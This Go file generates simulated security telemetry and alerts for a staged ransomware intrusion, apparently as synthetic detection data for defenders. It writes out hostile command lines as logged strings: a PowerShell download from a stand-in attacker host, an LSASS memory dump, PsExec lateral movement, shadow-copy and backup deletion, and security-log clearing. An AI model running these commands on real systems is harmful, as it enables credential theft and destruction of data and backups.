package world

import (
	"fmt"
	"strings"
)

// ransomware is the first attack: a mail with a macro, a beacon, stolen credentials, a file server, encrypted shares.
// It runs about four hours.
func (st *story) ransomware() {
	st.attack = "ransomware"
	w := st.w
	ses := w.actor("Finance", 1, st.t)
	fs := w.ofKind(kindFile)[0]
	dc := w.ofKind(kindDC)[0]
	admin := new(account)
	*admin = w.role("IT", 1).adminAccount()
	c2 := endpoint{"cdn.sundbridge-update.example", "192.0.2.66", 443}

	mail := st.lureMail(ses.who)
	st.wait(14, 22)
	beacon := st.macro(ses, mail, c2)
	st.beacons(beacon, c2, 5)
	st.explore(beacon, ses, dc)
	st.zap(mail)
	st.beacons(beacon, c2, 4)
	st.dumpLsass(beacon, ses)
	st.beacons(beacon, c2, 3)
	remote := st.lateral(beacon, ses, fs, dc, admin)
	st.encrypt(remote, fs, admin)
	st.stopped(ses, fs, admin)
	st.name = "Multi-stage incident involving Initial access & Ransomware on multiple endpoints reported by multiple sources"
}

func (st *story) lureMail(victim *Person) *message {
	sc := st.scene(victim.device)
	m := st.w.newMessage(st.r.next(), "billing@nordlys-logistics-invoices.example", "Nordlys Logistics Billing", "Inbound", "Overdue invoice 88213 - final notice")
	m.ip, m.mailFrom, m.first = "192.0.2.61", "bounce@mta.nordlys-logistics-invoices.example", true
	m.auth = `{"SPF":"pass","DKIM":"none","DMARC":"none","CompAuth":"pass"}`
	doc := document("Invoice_88213.docm", st.r.next())
	doc.size = 148_812
	m.attachments = []attachment{{file: doc, kind: "docm", ext: "docm"}}
	m.links = []link{{"https://pay.nordlys-logistics-invoices.example/88213", "pay.nordlys-logistics-invoices.example", "Body"}}
	m.to = []recipient{to(victim)}
	for _, p := range st.w.people {
		if p.department == "Finance" && p != victim && len(m.to) < 4 {
			m.to = append(m.to, to(p))
		}
	}
	sc.send(m)
	st.done(sc)
	return m
}

// macro: the attachment is opened, Word starts PowerShell, PowerShell loads the beacon. It returns the beacon's process.
func (st *story) macro(ses *session, m *message, c2 endpoint) *proc {
	first := st.t
	sc := st.scene(ses.d)
	doc := m.attachments[0].file
	doc.path = home(ses.who) + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\` + upper(hexString(uint64(ses.who.n), 8)) + `\` + doc.name
	row := sc.touch("FileCreated", ses.outlook, doc)
	row.origin.url = ""
	word := sc.spawn(ses.outlook, "WINWORD.EXE", `"`+img("WINWORD.EXE").full+`" /n "`+doc.path+`" /o ""`)
	sc.load(word, "amsi.dll")
	sc.pause(15, 40)
	cmd := sc.spawn(word, "cmd.exe", `cmd.exe /c start /min powershell.exe -NoP -W Hidden -Exec Bypass -Enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA`)
	ps := sc.spawn(cmd, "powershell.exe", `powershell.exe  -NoP -W Hidden -Exec Bypass -Enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA`)
	sc.load(ps, "System.Management.Automation.ni.dll")
	sc.load(ps, "amsi.dll")
	sc.event("PowerShellCommand", ps, `{"Command":"New-Object Net.WebClient"}`)
	sc.event("AmsiScriptDetection", ps, `{"Description":"`+`$c=New-Object Net.WebClient;$c.DownloadFile('https://`+c2.host+`/u/msupd64','msupd64.dll')"}`)
	sc.connect(ps, c2)
	dll := document(home(ses.who)+`\AppData\Local\Temp\msupd64.dll`, st.r.next())
	dll.size = 412_160
	row = sc.touch("FileCreated", ps, dll)
	row.origin.url, row.origin.ip = "https://"+c2.host+"/u/msupd64", c2.ip
	beacon := sc.spawn(ps, "rundll32.exe", `"C:\Windows\System32\rundll32.exe" `+dll.path+`,Start`)
	load := sc.row(tabDeviceImageLoadEvents, "ImageLoaded", beacon)
	load.file = dll
	key := sc.set(beacon, `HKEY_CURRENT_USER\`+ses.who.sid+`\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "MicrosoftUpdateHelper", "String", `rundll32.exe `+dll.path+`,Start`)
	task := sc.event("ScheduledTaskCreated", ses.d.base.schedule, `{"TaskName":"\\MicrosoftUpdateHelper","TaskContent":"<Actions><Exec><Command>rundll32.exe</Command></Exec></Actions>"}`)
	task.acc = &ses.who.account
	sc.connect(beacon, c2)
	st.done(sc)
	st.behave("Autostart entry for a library in a temporary folder", "A value under Run starts a library that was downloaded minutes before.", "SuspiciousAutorun",
		"Persistence", []string{"T1547.001"}, ses.who, ses.d, evDevice(ses.d), evProcess(beacon), evFile(ses.d, dll), evRegistry(ses.d, key.reg))
	st.alarm(alarmText{title: "Suspicious process launched by an Office application",
		description: "Word started a command interpreter from a document that came by mail. Documents with macros are a usual first step of an intrusion.",
		category:    "InitialAccess", severity: "medium",
		service: "microsoftDefenderForEndpoint", detection: "microsoftDefenderForEndpoint", techniques: []string{"T1566.001", "T1204.002"}}, first,
		evDevice(ses.d), evUser(&ses.who.account), evProcess(word), evProcess(cmd), evFile(ses.d, doc), evMail(m, 0))
	st.alarm(alarmText{title: "Suspicious PowerShell download or encoded command execution",
		description: "PowerShell ran an encoded command that fetched a library from the internet and started it.", category: "Execution", severity: "medium",
		service:   "microsoftDefenderForEndpoint",
		detection: "microsoftDefenderForEndpoint", techniques: []string{"T1059.001", "T1071.001", "T1547.001"}}, first,
		evDevice(ses.d), evUser(&ses.who.account), evProcess(ps), evProcess(beacon), evFile(ses.d, dll), evURL("https://"+c2.host+"/u/msupd64"), evIP(c2.ip), evRegistry(ses.d, key.reg))
	return beacon
}

// zap takes the mail out of the mailboxes, too late for the first who opened it.
func (st *story) zap(m *message) {
	sc := st.scene(nil)
	after := *m // what is known of it by now; the rows of its delivery stay as they were
	m = &after
	m.threats, m.threatNames, m.methods = "Malware", "TrojanDownloader:O97M/Lynxdrop.A", `{"Malware":["File detonation"]}`
	var proof []*evidence
	for i := range m.to {
		row := sc.row(tabEmailPostDeliveryEvents, "Malware ZAP", nil)
		row.mail, row.rcpt = m, &m.to[i]
		row.post = &postDelivery{"Moved to quarantine", "Malware ZAP", "ZAP", "Success", "Quarantine", "Inbox/folder"}
		proof = append(proof, evMail(m, i).as("malicious", "remediated"))
	}
	st.done(sc)
	st.alarm(alarmText{title: "Email messages containing malicious file removed after delivery", description: "Mails with a malicious attachment were delivered and then removed.", category: "InitialAccess", severity: "informational",
		service: "microsoftDefenderForOffice365", detection: "microsoftDefenderForOffice365", techniques: []string{"T1566.001"}, policy: guid(31, "policy-file", 0)}, st.t, proof...)
}

// beacons is the beacon asking for work.
func (st *story) beacons(p *proc, c2 endpoint, n int) {
	for range n {
		st.wait(4, 9)
		sc := st.scene(p.dev)
		sc.connect(p, c2)
		st.done(sc)
	}
}

func (st *story) explore(beacon *proc, ses *session, dc *Device) {
	first := st.t
	sc := st.scene(ses.d)
	cmd := sc.spawn(beacon, "cmd.exe", `C:\Windows\system32\cmd.exe`)
	var seen []*evidence
	for _, c := range [][2]string{{"whoami.exe", "whoami  /all"}, {"ipconfig.exe", "ipconfig  /all"}, {"net.exe", `net  group "Domain Admins" /domain`}, {"nltest.exe",
		"nltest  /domain_trusts"}, {"nltest.exe", "nltest  /dclist:"}, {"systeminfo.exe", "systeminfo"}} {
		p := sc.spawn(cmd, c[0], c[1])
		if c[0] == "net.exe" {
			p = sc.spawn(p, "net1.exe", `C:\Windows\system32\net1  group "Domain Admins" /domain`)
		}
		seen = append(seen, evProcess(p))
		sc.pause(4, 40)
	}
	sc.event("LdapSearch", cmd,
		`{"SearchFilter":"(&(objectCategory=group)(cn=Domain Admins))","AttributeList":["member"],"ScopeOfSearch":"SubTree","DistinguishedName":"`+st.w.net.baseDN+`"}`)
	base := identity{app: "Active Directory", acc: &ses.who.account, device: ses.d.fqdn, ip: ses.d.ip, port: 51_000 + st.r.n(9000), destName: dc.fqdn, destIP: dc.ip,
		targetDevice: dc.fqdn, country: "NL"}
	samr := base
	samr.kind, samr.protocol, samr.query, samr.queryTarget, samr.destPort, samr.targetDisplay = "QueryGroup", "Samr", "QueryGroup", "Domain Admins", 445, "Domain Admins"
	sc.identity("SAMR query", samr)
	ldap := base
	ldap.kind, ldap.protocol, ldap.query, ldap.queryTarget, ldap.destPort = "LdapQuery", "Ldap", "(&(objectCategory=computer)(operatingSystem=*server*))", "Servers", 389
	sc.identity("LDAP query", ldap)
	st.done(sc)
	st.alarm(alarmText{title: "Suspicious sequence of exploration activities",
		description: "A process ran several commands that list accounts, groups, domain controllers and the system within a short time.", category: "Discovery",
		severity: "low",
		service:  "microsoftDefenderForEndpoint", detection: "microsoftDefenderForEndpoint", techniques: []string{"T1087.002", "T1069.002",
			"T1018"}}, first, append([]*evidence{evDevice(ses.d), evUser(&ses.who.account)}, seen...)...)
	st.alarm(alarmText{title: "User and group membership reconnaissance (SAMR)",
		description: "Somebody asked the domain controller for the members of sensitive groups, which this user never did before.", category: "Discovery", severity: "medium",
		service:   "microsoftDefenderForIdentity",
		detection: "microsoftDefenderForIdentity", techniques: []string{"T1069.002"}}, first, evUser(&ses.who.account), evDevice(ses.d), evDevice(dc))
}

func (st *story) dumpLsass(beacon *proc, ses *session) {
	first := st.t
	sc := st.scene(ses.d)
	lsass := ses.d.base.lsass
	dump := document(`C:\Windows\Temp\dbg8812.dmp`, st.r.next())
	dump.size = 58_720_256
	p := sc.spawn(beacon, "rundll32.exe", fmt.Sprintf(`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d %s full`, lsass.pid, dump.path))
	p.integrity, p.elevation = "High", "TokenElevationTypeFull"
	sc.load(p, "comsvcs.dll")
	sc.load(p, "dbghelp.dll")
	open := sc.event("OpenProcessApiCall", p, `{"DesiredAccess":2097151}`)
	open.child = lsass
	read := sc.event("ReadProcessMemoryApiCall", p, `{"TotalBytesCopied":58720256}`)
	read.child = lsass
	sc.touch("FileCreated", p, dump)
	st.done(sc)
	st.alarm(alarmText{title: "Sensitive credential memory read",
		description: "The memory of the local security authority was written to a file. It holds the credentials of those who are logged on.", category: "CredentialAccess",
		severity: "high",
		service:  "microsoftDefenderForEndpoint", detection: "microsoftDefenderForEndpoint", techniques: []string{"T1003.001"}}, first, evDevice(ses.d), evUser(&ses.who.account), evProcess(p), evProcess(lsass).as("suspicious", ""), evFile(ses.d, dump))
}

// lateral moves to the file server with PsExec and an administrator's hash. It returns the shell there.
func (st *story) lateral(beacon *proc, ses *session, fs, dc *Device, admin *account) *proc {
	first := st.t
	here := st.scene(ses.d)
	psexec := img("PsExec64.exe").on(ses.d)
	psexec.path, psexec.name, psexec.img = `C:\ProgramData\ps.exe`, "ps.exe", nil
	here.touch("FileCreated", beacon, psexec)
	p := here.run(beacon, psexec, `C:\ProgramData\ps.exe \\`+fs.host+` -accepteula -s -d cmd.exe`)
	here.to(p, fs, 445)
	here.to(p, fs, 135)
	st.done(here)
	there := st.scene(fs)
	logon := there.logonTo(fs, admin, "Network", "NTLM", ses.d, "")
	there.identity("LogonSuccess", identity{app: "Active Directory", kind: "Credentials validation", protocol: "Ntlm", acc: admin, device: ses.d.fqdn,
		deviceType: "Workstation", os: ses.d.os.name, ip: ses.d.ip, port: 52_114, destName: dc.fqdn, destIP: dc.ip, destPort: 445,
		targetDevice: fs.fqdn, targetDisplay: fs.host})
	svc := img("PSEXESVC.exe").on(fs)
	row := there.touch("FileCreated", fs.base.system, svc)
	row.origin = origin{request: "SMB", sourceIP: ses.d.ip, sourcePort: 52_115, share: `\\` + fs.host + `\ADMIN$`, account: admin}
	there.event("ServiceInstalled", fs.base.services, `{"ServiceName":"PSEXESVC","ServiceAccount":"LocalSystem","ServiceStartType":3,"ServiceType":16}`).file = svc
	there.set(fs.base.services, `HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\PSEXESVC`, "ImagePath", "ExpandString", `%SystemRoot%\PSEXESVC.exe`)
	service := there.spawn(fs.base.services, "PSEXESVC.exe", `C:\Windows\PSEXESVC.exe`)
	shell := there.spawn(service, "cmd.exe", `"cmd.exe"`)
	pipe := there.event("NamedPipeEvent", service,
		`{"PipeName":"\\Device\\NamedPipe\\PSEXESVC-`+ses.d.host+`-7788-stdin","FileOperation":"File created","NamedPipeEnd":"Server","RemoteClientsAccess":"AcceptRemote"}`)
	pipe.conn.remoteIP, pipe.conn.remoteName = ses.d.ip, ses.d.host
	pipe.logon.id = logon.logon.id
	st.done(there)
	st.alarm(alarmText{title: "Suspicious service launched remotely with PsExec",
		description: "A service was installed and started on a server over the network, from a workstation on which credentials had been stolen.",
		category:    "LateralMovement", severity: "medium", service: "microsoftDefenderForEndpoint",
		detection: "microsoftDefenderForEndpoint", techniques: []string{"T1021.002",
			"T1569.002"}}, first, evDevice(fs), evDevice(ses.d), evUser(admin), evProcess(p), evProcess(service), evProcess(shell), evFile(fs, svc).as("suspicious", ""), evIP(ses.d.ip).as("suspicious", ""))
	st.alarm(alarmText{title: "Suspected identity theft (pass-the-hash)",
		description: "An administrator's account was used with NTLM from a computer on which its owner never worked.", category: "LateralMovement", severity: "high",
		service:   "microsoftDefenderForIdentity",
		detection: "microsoftDefenderForIdentity", techniques: []string{"T1550.002"}}, first, evUser(admin), evDevice(ses.d), evDevice(fs))
	return shell
}

func (st *story) encrypt(shell *proc, fs *Device, admin *account) {
	st.wait(8, 20)
	first := st.t
	sc := st.scene(fs)
	locker := document(`C:\ProgramData\svhost64.exe`, st.r.next())
	locker.size = 1_204_224
	sc.touch("FileCreated", shell, locker)
	var seen []*evidence
	for _, c := range [][2]string{{"vssadmin.exe", "vssadmin  delete shadows /all /quiet"}, {"wbadmin.exe", "wbadmin  delete catalog -quiet"}, {"bcdedit.exe",
		"bcdedit  /set {default} recoveryenabled no"}} {
		seen = append(seen, evProcess(sc.spawn(shell, c[0], c[1])))
		sc.pause(1, 5)
	}
	backups := sc.t
	lock := sc.run(shell, locker, `C:\ProgramData\svhost64.exe --path E:\Shares --threads 8 --note`)
	sc.set(lock, `HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Control\FileSystem`, "LongPathsEnabled", "Dword", "1")
	var note file
	for _, share := range []string{"finance", "sales$", "engineering", "projects"} {
		note = document(`E:\Shares\`+share+`\README_RECOVER.txt`, 9)
		sc.touch("FileCreated", lock, note)
		for range 30 {
			old := document(`E:\Shares\`+share+`\`+st.r.title()+"."+pick(&st.r, officeTypes).ext, st.r.next()%8)
			renamed := document(old.path+".lynxlock", st.r.next())
			row := sc.touch("FileRenamed", lock, renamed)
			row.prev = old
			row.extra = ""
		}
	}
	clear := sc.spawn(shell, "wevtutil.exe", "wevtutil  cl Security")
	sc.event("SecurityLogCleared", clear, "").acc = admin
	st.done(sc)
	st.alarm(alarmText{title: "Ransomware behavior detected in the file system",
		description: "A process renamed many files on a file server and left notes that demand a ransom.", category: "Ransomware", severity: "high",
		service: "microsoftDefenderForEndpoint", detection: "microsoftDefenderForEndpoint",
		techniques: []string{"T1486"}, threat: "Lynxlock", family: "Lynxlock"}, first, evDevice(fs), evUser(&accSystem), evProcess(lock).as("malicious", ""), evFile(fs, locker), evFile(fs, note).as("suspicious", ""))
	st.t = max(st.t, backups)
	st.alarm(alarmText{title: "File backups were deleted", description: "Shadow copies and the backup catalogue were deleted, as ransomware does before it encrypts.",
		category: "Impact", severity: "high", service: "microsoftDefenderForEndpoint", detection: "microsoftDefenderForEndpoint",
		techniques: []string{"T1490", "T1070.001"}}, first, append([]*evidence{evDevice(fs), evProcess(shell), evProcess(clear)}, seen...)...)
}

// stopped is how it ends: antivirus stops the second server, attack disruption contains the account.
func (st *story) stopped(ses *session, fs *Device, admin *account) {
	servers := st.w.ofKind(kindFile)
	other := servers[len(servers)-1]
	first := st.t
	sc := st.scene(other)
	locker := st.fileNamed("svhost64.exe")
	row := sc.touch("FileCreated", other.base.system, locker)
	row.origin = origin{request: "SMB", sourceIP: fs.ip, sourcePort: 50_231, share: `\\` + other.host + `\C$`, account: admin}
	av := sc.event("AntivirusDetection", other.base.defender,
		`{"ThreatName":"Ransom:Win64/Lynxlock.A","WasExecutingWhileDetected":false,"Action":"Quarantine","WasRemediated":true,"ReportSource":"Windows Defender Antivirus"}`)
	av.file = locker
	st.done(sc)
	st.alarm(alarmText{title: "'Lynxlock' ransomware was prevented", description: "Antivirus found and removed ransomware before it ran.", category: "Ransomware",
		severity: "medium", service: "microsoftDefenderForEndpoint", detection: "antivirus", threat: "Ransom:Win64/Lynxlock.A", family: "Lynxlock",
		techniques: []string{"T1486"}}, first, evDevice(other), evFile(other, locker).as("malicious", "prevented"))
	sc = st.scene(fs)
	sc.rare(tabDisruptionAndResponseEvents, values{"ActionType": `"ContainedUserLogonBlocked"`, "DeviceId": quote(fs.id), "SourceDeviceId": quote(ses.d.id),
		"TargetDeviceId": quote(fs.id), "TargetDeviceName": quote(fs.fqdn), "TargetDomainName": quote(st.w.net.dns), "DeviceName": quote(fs.fqdn),
		"DomainName": quote(st.w.net.dns), "InitiatingProcessId": "4", "InitiatingProcessFileName": `"System"`, "SourceUserSid": quote(admin.sid), "SourceUserName": quote(admin.name), "SourceUserDomainName": quote(admin.domain), "SourceIpAddress": quote(ses.d.ip), "SourcePort": "52890",
		"IpAddress": quote(fs.ip), "Port": `"445"`, "SourceDeviceName": quote(ses.d.fqdn), "SourceDomainName": quote(st.w.net.dns), "AuthenticationProtocol": `"NTLM"`, "Service": `"cifs"`, "LogonType": `"Network"`, "CompromisedAccountCount": "1",
		"PolicyId": quote(guid(8, "policy", 1)), "PolicyName": `"Automatic attack disruption"`, "PolicyVersion": `"2"`, "PolicyHash": quote(hexString(99,
			40)), "DataSources": `"[\"MDE\"]"`, "IsPolicyOn": "true", "ReportType": `"Enforced"`})
	st.done(sc)
}

// fileNamed finds a file of the evidence so far.
func (st *story) fileNamed(name string) file {
	for _, a := range st.alarms {
		for _, e := range a.evidence {
			if e.file != nil && strings.EqualFold(e.file.name, name) {
				return *e.file
			}
		}
	}
	return file{}
}
